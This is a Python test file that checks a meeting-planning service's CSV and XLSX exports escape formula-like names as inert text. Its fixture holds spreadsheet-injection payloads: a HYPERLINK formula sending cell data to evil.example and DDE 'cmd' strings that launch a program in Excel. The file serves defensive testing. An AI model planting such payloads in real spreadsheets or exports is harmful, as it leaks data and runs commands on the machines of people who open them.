"""Exports that cannot hurt: names and functions that look like formulas come out as inert text.

A coordinator's typo or a hostile edit (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``) must not become a
live formula when a colleague opens the CSV or XLSX download in Excel, and must not be lost when
another reader (calamine, the engine behind pandas' fast reader) opens the XLSX.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from graph.cells import FORMULA_START
from tests.api.conftest import Api
from tests.api.test_meetings_graphql import CREATE, SR, VT, VT_BACKUP, ok

EVIL = {
    VT: {"name": '=HYPERLINK("http://evil.example/?x="&A1,"klik")', "function": "=cmd|' /C calc'!A0"},
    VT_BACKUP: {"name": "-2+3+cmd|' /C calc'!A0", "function": "@SUM(1,2)"},
}
EDIT = """mutation($k: String!, $p: PersonInput!) { editProfessional(key: $k, person: $p) { key name function } }"""


@pytest.fixture(scope="module")
def evil(api: Api) -> set[str]:
    """Two JZ28 professionals renamed to formulas; returns every hostile value."""
    for key, fields in EVIL.items():
        n = api.service.projection.node(key) or {}
        person = {"name": fields["name"], "function": fields["function"], "email": n.get("email") or "",
                  "phone": n.get("phone") or ""}
        got = ok(api, EDIT, role="admin", k=key, p=person)["editProfessional"]
        assert got["name"] == fields["name"], got
    return {v for fields in EVIL.values() for v in fields.values()}


@pytest.fixture(scope="module")
def meeting(api: Api, evil: set[str]) -> str:
    return str(ok(api, CREATE, input={"region": SR, "date": "2030-10-01", "start": "13:30", "end": "16:30",
                                      "place": "Arnhem"})["createMeeting"]["key"])


def _get(api: Api, url: str) -> bytes:
    r = api.client.get(url, headers={"Authorization": f"Bearer {api.tokens['coordinator']}"})
    assert r.status_code == 200, r.text
    return r.content


def _urls(meeting: str) -> list[tuple[str, set[str]]]:
    """Each download with the hostile values it must hold: the meeting invites the primary contact (name and
    function); the contact list names both but shows the position, not the person's function."""
    return [(f"/exports/meetings/{meeting}", set(EVIL[VT].values())),
            ("/exports/contacts/JZ28", {fields["name"] for fields in EVIL.values()})]


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";") for cell in row]


def test_csv_exports_neutralise_formulas(api: Api, evil: set[str], meeting: str) -> None:
    for url, expected in _urls(meeting):
        cells = _csv_cells(_get(api, url + ".csv"))
        live = [c for c in cells if c.startswith(FORMULA_START)]
        assert not live, (url, live)
        # The value is still there, marked as text the way Excel itself marks it.
        assert expected <= {c.removeprefix("'") for c in cells if c.startswith("'")}, url


def _xlsx_values(content: bytes) -> tuple[list[Any], list[Any]]:
    """(openpyxl cells, calamine values) of every sheet."""
    from python_calamine import CalamineWorkbook

    wb = load_workbook(io.BytesIO(content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    values = [v for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for v in row]
    return cells, values


def test_xlsx_exports_write_text_not_formulas(api: Api, evil: set[str], meeting: str) -> None:
    for url, expected in _urls(meeting):
        cells, values = _xlsx_values(_get(api, url + ".xlsx"))
        formulas = [c.value for c in cells if c.data_type == "f"]
        assert not formulas, (url, formulas)
        assert expected <= {c.value for c in cells}, url  # the exact value, not an apostrophe-mangled one
        assert all(c.quotePrefix for c in cells if c.value in expected), url  # Excel keeps them text when edited
        assert expected <= set(values), url  # another reader sees the text, not an empty formula result
